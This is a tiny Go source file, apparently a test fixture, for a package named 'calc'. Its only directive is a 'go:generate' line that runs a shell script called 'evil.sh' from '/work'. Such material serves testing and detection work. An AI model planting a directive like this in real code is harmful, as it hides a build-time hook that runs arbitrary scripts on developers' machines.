package calc

//go:generate sh /work/evil.sh
